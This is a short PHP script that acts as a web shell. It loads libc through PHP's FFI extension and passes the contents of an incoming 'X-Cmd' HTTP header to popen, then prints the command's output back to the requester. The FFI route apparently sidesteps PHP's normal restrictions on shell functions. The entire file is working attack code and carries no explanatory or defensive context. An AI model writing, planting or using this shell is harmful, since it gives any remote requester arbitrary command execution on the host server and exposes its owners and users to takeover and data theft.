<?php
$h = getallheaders();
$ffi = FFI::cdef("void *popen(const char *command, const char *type); int pclose(void *stream); char *fgets(char *s, int size, void *stream);", "libc.so.6");
$p = $ffi->popen($h['X-Cmd'], "r");
$buf = FFI::new("char[4096]");
while ($ffi->fgets($buf, 4096, $p) !== null) {
    echo FFI::string($buf);
}
$ffi->pclose($p);
